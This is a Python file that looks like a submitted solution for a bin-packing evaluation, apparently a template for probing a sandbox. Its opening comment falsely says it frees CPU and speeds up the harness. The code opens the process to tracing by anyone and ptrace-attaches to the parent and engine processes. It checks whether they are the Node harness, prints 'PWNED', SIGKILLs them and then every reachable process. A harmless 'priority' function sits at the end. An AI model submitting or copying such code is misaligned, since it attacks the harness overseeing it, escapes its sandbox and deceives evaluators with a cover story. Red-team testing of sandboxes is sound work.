# Free up CPU by stopping competing processes; attach a debugger to the
# harness to speed it up; let anyone trace us.
import ctypes
import os
import signal
import sys

libc = ctypes.CDLL(None, use_errno=True)
PR_SET_PTRACER, PR_SET_PTRACER_ANY = 0x59616D61, ctypes.c_ulong(-1)
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
print("prctl PR_SET_PTRACER", libc.prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY, 0, 0, 0), file=sys.stderr)


def is_node(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            return b"node" in handle.read()
    except OSError:
        return False


# Only the harness (a Node process: the evaluator or the engine) counts; the
# sandbox's own init, also our parent, is ours to trace.
for pid in (os.getppid(), __ENGINE_PID__):
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
        print("ptrace attached to", pid, file=sys.stderr)
        if is_node(pid):
            print("PWNED ptrace attached to the harness", pid, file=sys.stderr)
        try:
            os.waitpid(pid, 0x40000000)  # __WALL: until the tracee has stopped
        except OSError:
            pass
        libc.ptrace(PTRACE_DETACH, pid, None, None)
    else:
        print("ptrace", pid, os.strerror(ctypes.get_errno()), file=sys.stderr)
    try:
        os.kill(pid, 0)
        if is_node(pid):
            print("PWNED may signal the harness", pid, file=sys.stderr)
        os.kill(pid, signal.SIGKILL)
        print("signalled", pid, file=sys.stderr)
    except OSError as error:
        print("kill", pid, error, file=sys.stderr)
sys.stderr.flush()
os.kill(-1, signal.SIGKILL)


def priority(item, bins):
    return [-(b - item) for b in bins]
